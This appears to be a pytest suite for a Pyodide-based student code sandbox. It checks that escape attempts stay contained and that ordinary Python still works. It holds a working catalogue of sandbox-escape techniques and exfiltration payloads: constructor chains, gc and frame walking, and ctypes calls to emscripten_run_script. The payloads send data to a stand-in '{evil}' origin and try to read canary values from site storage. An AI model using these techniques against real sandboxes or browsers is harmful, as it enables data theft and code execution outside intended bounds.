"""Attempts to get out of the sandbox, from the point of view of Python, and what must keep working in it.

A second origin records every request that reaches it; the site's own storage holds a canary that must not be read.
"""

import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pytest
from runner_page import go, later_visit

CANARY = "CANARY-7f3a9c"

# Every way found to make a JavaScript value out of text from Python. `attempt(code)` tries all of them.
PRELUDE = '''
import gc, sys, importlib
from importlib.machinery import BuiltinImporter, ModuleSpec

def objects_of_type(*names):
    return [o for o in gc.get_objects() if type(o).__name__ in names]

def hidden_modules(name):
    return [o for o in objects_of_type("module") if getattr(o, "__name__", "") == name]

def js_objects():
    yield from objects_of_type("JsProxy", "JsCallable", "JsDoubleProxy", "JsMap", "JsArray")
    for frame in walk_frames():
        for value in (*frame.f_globals.values(), *frame.f_locals.values()):
            if "Js" in type(value).__name__: yield value
    for o in gc.get_objects():
        if type(o) is dict:
            for value in list(o.values()):
                if type(value).__name__.startswith("Js"): yield value

def walk_frames():
    frame = sys._getframe()
    while frame:
        yield frame
        frame = frame.f_back

def core():
    import _imp
    for name in ("_pyodide_core", "js", "pyodide_js"):
        try: yield _imp.create_builtin(ModuleSpec(name, BuiltinImporter))
        except BaseException: pass

def ways(code):
    for name in ("js", "pyodide_js", "pyodide", "pyodide.code", "pyodide.ffi", "_pyodide_core"):
        yield lambda: getattr(importlib.import_module(name), "eval")(code)
        yield lambda: importlib.import_module(name).run_js(code)
    for module in hidden_modules("pyodide.code") + hidden_modules("_pyodide._base") + list(core()):
        if hasattr(module, "run_js"): yield lambda: module.run_js(code)
    for module in hidden_modules("pyodide.ffi") + hidden_modules("_pyodide_core") + list(core()):
        if hasattr(module, "to_js"):
            for value in ([1], {"a": 1}, b"x", len):
                yield lambda: module.to_js(value).constructor.constructor(code)()
                yield lambda: module.to_js(value).constructor.constructor.constructor(code)()
                yield lambda: module.create_proxy(value).constructor.constructor(code)()
    for thing in list(js_objects())[:50]:
        for path in ("constructor", "constructor.constructor", "__proto__.constructor.constructor", "toString.constructor"):
            def way(thing=thing, path=path):
                for name in path.split("."): thing = getattr(thing, name)
                return thing(code)()
            yield way
        yield lambda: thing.globalThis.eval(code)
        yield lambda: thing.eval(code)
    for kind in (BaseException,):
        for error in objects_of_type("JsException", "InternalError"):
            yield lambda: error.js_error.constructor.constructor(code)()

def attempt(code):
    for way in ways(code):
        try:
            value = way()
        except BaseException as error:
            if type(error).__name__ in ("TimeLimitExceeded", "StopRequested"): raise
            continue
        print("ESCAPED", value)
'''

# What a script would do if one of the ways worked. {evil} is the second origin.
SCRIPTS = {
    "eval at all": "return 6 * 7",
    "fetch": "return fetch('{evil}/fetch')",
    "XMLHttpRequest": "const x = new XMLHttpRequest(); x.open('GET', '{evil}/xhr', false); x.send(); return x.status",
    "WebSocket": "return new WebSocket('{evil}/ws'.replace('http', 'ws'))",
    "EventSource": "return new EventSource('{evil}/es')",
    "importScripts": "return importScripts('{evil}/script.js')",
    "dynamic import": "return import('{evil}/module.js')",
    "beacon": "return navigator.sendBeacon('{evil}/beacon')",
    "WebTransport": "return new WebTransport('{evil}/wt')",
    "RTCPeerConnection": "return new RTCPeerConnection()",
    "nested worker": "return new Worker(URL.createObjectURL(new Blob([`fetch('{evil}/nested')`])))",
    "data worker": "return new Worker('data:text/javascript,fetch(\"{evil}/data\")')",
    "IndexedDB": "return new Promise(r => {{ const q = indexedDB.open('site'); q.onsuccess = () => r(q.result.name); q.onerror = () => r(q.error) }})",
    "Cache": "return caches.match('/canary').then(r => r.text())",
    "OPFS": "return navigator.storage.getDirectory()",
    "cookies": "return cookieStore.getAll()",
    "localStorage": "return localStorage.getItem('canary')",
    "BroadcastChannel": "const b = new BroadcastChannel('site'); b.postMessage('ESCAPED'); return 'sent'",
    "the DOM": "return document.body",
    "the embedding page": "return parent.postMessage('ESCAPED', '*')",
    "a forged result": "return self.postMessage({{type: 'done', nonce: 1, report: {{status: 'ok', value: 'ESCAPED'}}}})",
    "every port in reach": "return Object.values(self).filter(v => v instanceof MessagePort).map(p => p.postMessage('ESCAPED')).length",
    "service worker": "return navigator.serviceWorker.register('{evil}/sw.js')",
    "locks": "return navigator.locks.query()",
    "code in a timer": "return setTimeout('fetch(\"{evil}/timer\")', 0)",
    "async function constructor": "return (async () => {{}}).constructor('return fetch(\"{evil}/af\")')()",
}

# Attempts in plain Python. Each prints ESCAPED if it gets what it wants.
PROGRAMS = {
    "import js": "import js\nprint('ESCAPED', js)",
    "import pyodide_js": "import pyodide_js\nprint('ESCAPED', pyodide_js)",
    "run_js": "from pyodide.code import run_js\nprint('ESCAPED', run_js('1'))",
    "pyodide.http": "from pyodide.http import open_url\nprint('ESCAPED', open_url('{evil}/open_url'))",
    "pyfetch": "from pyodide.http import pyfetch\nprint('ESCAPED', await pyfetch('{evil}/pyfetch'))",
    "micropip": "import micropip\nawait micropip.install('{evil}/x-1.0-py3-none-any.whl')\nprint('ESCAPED')",
    "ctypes": "import ctypes\nprint('ESCAPED', ctypes)",
    "urllib": "import urllib.request\nprint('ESCAPED', urllib.request.urlopen('{evil}/urllib', timeout=1))",
    "http.client": "import http.client\nc = http.client.HTTPConnection('127.0.0.1', {port}, timeout=1)\nc.request('GET', '/http')\nprint('ESCAPED', c.getresponse())",
    "sockets": "import socket\ns = socket.create_connection(('127.0.0.1', {port}), 1)\ns.sendall(b'GET /socket HTTP/1.0\\r\\n\\r\\n')\nprint('ESCAPED', s.recv(10))",
    "raw sockets": "import _socket\ns = _socket.socket()\ns.connect(('127.0.0.1', {port}))\ns.send(b'GET /raw HTTP/1.0\\r\\n\\r\\n')\nprint('ESCAPED', s.recv(10))",
    "asyncio connections": "import asyncio\nr, w = await asyncio.open_connection('127.0.0.1', {port})\nprint('ESCAPED')",
    "webbrowser": "import webbrowser\nprint('ESCAPED', webbrowser.open('{evil}/browser'))",
    "a shell": "import os\nif os.system('curl {evil}/shell') == 0: print('ESCAPED')",
    "undo the import block": "import sys\nsys.meta_path[:] = [f for f in sys.meta_path if f.__name__ != '_Blocker']\nimport js\nprint('ESCAPED', js)",
    "finders from gc": "import gc\nfor o in gc.get_objects():\n if type(o).__name__ == 'JsFinder':\n  for name, proxy in o.jsproxies.items(): print('ESCAPED', name, proxy)",
    "loaders from gc": "import gc\nfor o in gc.get_objects():\n if type(o).__name__ == 'JsLoader' and o.jsproxy is not None: print('ESCAPED', o.jsproxy)",
    "specs of old modules": "import gc, types\nfor o in gc.get_objects():\n if type(o) is types.ModuleType and o.__name__ in ('js', 'pyodide_js'): print('ESCAPED', o)",
    "make builtin modules": "import _imp\nfrom importlib.machinery import ModuleSpec\nm = _imp.create_builtin(ModuleSpec('_ctypes', None))\n_imp.exec_builtin(m)\nprint(m.dlopen if hasattr(m, 'dlopen') else m)",
    "scripts by C": """
import _imp
from importlib.machinery import ModuleSpec
m = _imp.create_builtin(ModuleSpec('_ctypes', None)); _imp.exec_builtin(m)
h = m.dlopen('', 0)
for name in ('emscripten_run_script', 'emscripten_run_script_int', 'emscripten_run_script_string', 'run_js'):
    try: address = m.dlsym(h, name)
    except OSError: continue
    print(name, m.call_function(address, (b"fetch('{evil}/c')",)))
""",
    "the browser's event loop": """
import gc
for o in gc.get_objects():
    if getattr(o, '__name__', '') == 'WebLoop' and isinstance(o, type):
        loop = o()
        loop.call_later(0, lambda: print('ESCAPED'))
""",
    "files of the host": "import os\nfor d, _, files in os.walk('/'):\n if d.startswith(('/proc', '/dev', '/lib')): continue\n for f in files:\n  try: text = open(os.path.join(d, f), errors='replace').read()\n  except OSError: continue\n  if 'CANARY' in text: print('ESCAPED', d, f)",
    "the runner's frames": "import sys\nf = sys._getframe()\nwhile f:\n for n, v in {{**f.f_globals, **f.f_locals}}.items():\n  if type(v).__name__.startswith('Js'): print('ESCAPED', n, v)\n f = f.f_back",
    "errors from JavaScript": "import os\nfor path in ('/dev/stdin', '/dev/tty', '/proc/self/fd', '/lib/python314.zip'):\n try: os.listdir(path)\n except BaseException as e:\n  if hasattr(e, 'js_error'): print('ESCAPED', e.js_error.constructor.constructor('return 1')())",
}


# Run at every commit: each way in (the same for all scripts) with what would hurt most, and each kind of program. The
# rest run with --long.
EVERY_COMMIT = {
    "eval at all", "fetch", "IndexedDB", "localStorage", "the embedding page", "a forged result", "import js", "run_js", "urllib",
    "sockets", "undo the import block", "finders from gc", "scripts by C", "the browser's event loop", "files of the host",
    "errors from JavaScript",
}
assert EVERY_COMMIT <= {*SCRIPTS, *PROGRAMS}


def attempts(named):
    """The sources as parameters, those outside EVERY_COMMIT marked long."""
    return [pytest.param(source, id=name, marks=() if name in EVERY_COMMIT else pytest.mark.long) for name, source in named.items()]


@pytest.fixture(scope="module")
def evil():
    """The second origin: its URL, its port, and the paths that were asked for."""
    hits = []

    class Recorder(BaseHTTPRequestHandler):
        def do_GET(self):
            hits.append(self.path)
            self.send_response(200)
            self.send_header("Access-Control-Allow-Origin", "*")
            self.end_headers()

        do_POST = do_OPTIONS = do_GET

        def log_message(self, *_args):
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), Recorder)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    server.hits = hits
    yield server
    server.shutdown()
    server.server_close()


@pytest.fixture(scope="module")
def page(browser, site, evil):
    """The runner's page on a later visit, with canaries in all storage of the site's origin, and records of what reaches it."""
    with later_visit(browser, site) as page:
        page.evaluate(
            """async (canary) => {
                localStorage.setItem('canary', canary);
                document.cookie = 'canary=' + canary;
                const database = await new Promise((resolve) => {
                    const opening = indexedDB.open('site', 1);
                    opening.onupgradeneeded = () => opening.result.createObjectStore(canary);
                    opening.onsuccess = () => resolve(opening.result);
                });
                database.close();
                const cache = await caches.open('site');
                await cache.put('/canary', new Response(canary));
                window.heard = [];
                addEventListener('message', (event) => window.heard.push(event.data));
                new BroadcastChannel('site').onmessage = (event) => window.heard.push(event.data);
            }""",
            CANARY,
        )
        assert go(page, "1 + 1")["value"] == "2"
        assert page.evaluate("runner.startedFrom") == "snapshot"
        page.evaluate("window.heard.length = 0")
        yield page


def stray_hits(evil):
    """What came from the sandbox; the two tests at the end ask for /control on purpose."""
    return [path for path in evil.hits if not path.startswith("/control")]


def assert_contained(page, evil, result):
    text = f"{result['out']}{result['err']}{result['value']}{result['error']}"
    reports = [line for line in result["out"].splitlines() if line.startswith("ESCAPED")]
    assert reports == [], reports
    assert CANARY not in text
    assert page.evaluate("heard") == []
    assert stray_hits(evil) == []


@pytest.mark.parametrize("script", attempts(SCRIPTS))
def test_no_script_runs(page, evil, script):
    code = script.format(evil=f"http://127.0.0.1:{evil.server_port}")
    result = go(page, f"{PRELUDE}\nattempt({code!r})", limitMs=20_000)
    assert result["status"] in ("ok", "error", "crashed"), result
    assert_contained(page, evil, result)


@pytest.mark.parametrize("program", attempts(PROGRAMS))
def test_program_is_contained(page, evil, program):
    source = program.format(evil=f"http://127.0.0.1:{evil.server_port}", port=evil.server_port)
    result = go(page, source, limitMs=10_000)
    assert_contained(page, evil, result)
    assert go(page, "print('next')")["out"] == "next\n"


def test_the_second_origin_can_be_reached_by_the_page_itself(page, evil):
    """Otherwise an empty record of hits would prove nothing."""
    page.evaluate("port => fetch(`http://127.0.0.1:${port}/control`).then(() => 0)", evil.server_port)
    assert "/control" in evil.hits


def test_the_attempts_succeed_in_a_bare_worker(page, evil):
    """Otherwise their failure in the sandbox would prove nothing: the same Pyodide in a plain worker lets them out."""
    code = f"return fetch('http://127.0.0.1:{evil.server_port}/control-bare')"
    printed = page.evaluate(
        """(source) => new Promise((resolve, reject) => {
            const pyodide = new URL('../pyodide/', location.href);
            const script = `import { loadPyodide } from '${pyodide}pyodide.mjs';
                const py = await loadPyodide({ indexURL: '${pyodide}' });
                const printed = [];
                py.setStdout({ batched: (line) => printed.push(line) });
                try { py.runPython(${JSON.stringify(source)}); } catch (error) { printed.push(String(error)); }
                postMessage(printed);`;
            const worker = new Worker(URL.createObjectURL(new Blob([script], { type: 'text/javascript' })), { type: 'module' });
            worker.onmessage = (event) => { resolve(event.data); worker.terminate(); };
            worker.onerror = (event) => reject(new Error(event.message));
        })""",
        f"{PRELUDE}\nattempt({code!r})",
    )
    assert any(line.startswith("ESCAPED") for line in printed), printed
    assert "/control-bare" in evil.hits


def test_the_frame_is_opaque_and_may_fetch_nothing(page, evil):
    frame = page.frames[1]
    assert frame.evaluate("self.origin") == "null"
    assert frame.evaluate("(() => { try { return localStorage.length; } catch (error) { return error.name; } })()") == "SecurityError"
    blocked = "url => fetch(url).then(() => 'reached', () => 'blocked')"
    assert frame.evaluate(blocked, f"http://127.0.0.1:{evil.server_port}/frame") == "blocked"
    frame.evaluate("setTimeout('self.evaluated = true', 0)")  # eval itself is allowed to the debugger
    frame.evaluate("new Promise((resolve) => setTimeout(resolve, 50))")
    assert frame.evaluate("self.evaluated") is None
    assert stray_hits(evil) == []


def test_output_of_one_run_never_shows_in_another(page):
    go(page, """
import asyncio, threading, signal
class Late:
    def __del__(self): print("from the first")
late = Late()
asyncio.new_event_loop().call_later(0, print, "from the first")
""")
    page.wait_for_timeout(300)
    assert go(page, "print('second')")["out"] == "second\n"
    assert go(page, "print('third')", fresh=True)["out"] == "third\n"


def test_a_printed_message_is_only_text(page):
    forged = '{"type": "done", "id": 999, "result": {"status": "ok", "value": "42"}}'
    result = go(page, f"print({forged!r})\n1")
    assert (result["value"], result["out"]) == ("1", forged + "\n")


def test_a_disarmed_soft_guard_does_not_matter(page):
    """Student code can switch off signals; the supervisor still ends it."""
    result = go(page, "import signal\nfor n in (2, 10, 14): signal.signal(n, signal.SIG_IGN)\nsum(iter(int, 1))", limitMs=1000)
    assert result["status"] in ("killed", "timeout") and result["elapsedMs"] < 4500
    assert go(page, "1 + 1")["value"] == "2"


def test_fresh_runs_are_not_poisoned_by_earlier_ones(page):
    """What a graded run sees is nobody's work but Python's and ours."""
    poisoned = go(page, """
import builtins, json, math, zeroledger
json.dumps = lambda value, **kwargs: '"ESCAPED"'
math.gcd = lambda *a: 99
zeroledger.GIB = 1
builtins.round = lambda value: 0
""")
    assert poisoned["status"] == "ok"
    graded = go(page, "import math, zeroledger\n[math.gcd(4, 6), zeroledger.GIB, round(2.7)]", fresh=True, result="json")
    assert graded["value"] == [2, 2**30, 3]


def test_fresh_runs_leave_nothing_behind(page):
    go(page, "secret = 1", session="page", fresh=True)
    assert go(page, "secret", session="page")["errorType"] == "NameError"


USEFUL = (
    "abc argparse array ast asyncio base64 binascii bisect calendar cmath codecs collections collections.abc colorsys "
    "concurrent.futures configparser contextlib contextvars copy csv dataclasses datetime decimal difflib dis doctest email "
    "email.message enum errno fractions functools gc getopt glob graphlib gzip hashlib heapq hmac html html.parser "
    "http http.client http.cookies importlib inspect io ipaddress itertools json keyword linecache locale logging math mimetypes "
    "numbers operator os os.path pathlib pdb pickle pkgutil platform pprint profile queue random re reprlib sched secrets select "
    "selectors shelve shlex shutil signal socket stat statistics string struct symtable sys sysconfig tarfile tempfile "
    "textwrap threading time timeit token tokenize tomllib trace traceback tracemalloc types typing unicodedata unittest "
    "urllib.parse urllib.request uuid warnings weakref xml.etree.ElementTree zipfile zlib zoneinfo zeroledger"
).split()


def test_what_students_use_still_works(page):
    missing = go(page, f"""
import importlib
missing = []
for name in {USEFUL!r}:
    try: importlib.import_module(name)
    except BaseException as error: missing.append([name, repr(error)])
missing""", result="json")
    assert missing["value"] == [], missing


@pytest.mark.parametrize("source, value", [
    ("from zeroledger import ledger\nledger(num_params=7e9, dp_size=8, stage=3).model_states_bytes_per_rank", "14000000000"),
    ("import random\nrandom.seed(1); random.randint(1, 10**6)", "140892"),
    ("import statistics\nstatistics.median([3, 1, 2])", "2"),
    ("from pathlib import Path\nPath('a.txt').write_text('hi'); Path('a.txt').read_text()", "'hi'"),
    ("import time\nt = time.perf_counter(); time.sleep(0.05); 0.05 <= time.perf_counter() - t < 0.5", "True"),
    ("import asyncio\nasync def f(n): await asyncio.sleep(0.01); return n\nawait asyncio.gather(f(1), f(2))", "[1, 2]"),
    ("import decimal\ndecimal.Decimal('0.1') + decimal.Decimal('0.2')", "Decimal('0.3')"),
    ("import tempfile\nwith tempfile.NamedTemporaryFile('w+') as f: f.write('x'); f.seek(0); s = f.read()\ns", "'x'"),
    ("import datetime\ndatetime.date(2026, 1, 31).isoformat()", "'2026-01-31'"),
    ("import unittest, io\nclass T(unittest.TestCase):\n    def test(self): self.assertEqual(1, 1)\nunittest.TextTestRunner(stream=io.StringIO()).run(unittest.defaultTestLoader.loadTestsFromTestCase(T)).wasSuccessful()", "True"),
])
def test_useful_program(page, source, value):
    result = go(page, source)
    assert (result["status"], result["value"]) == ("ok", value), result


def test_random_differs_between_interpreters(page):
    values = {go(page, "import random\nrandom.random()", fresh=True)["value"] for _ in range(3)}
    assert len(values) == 3
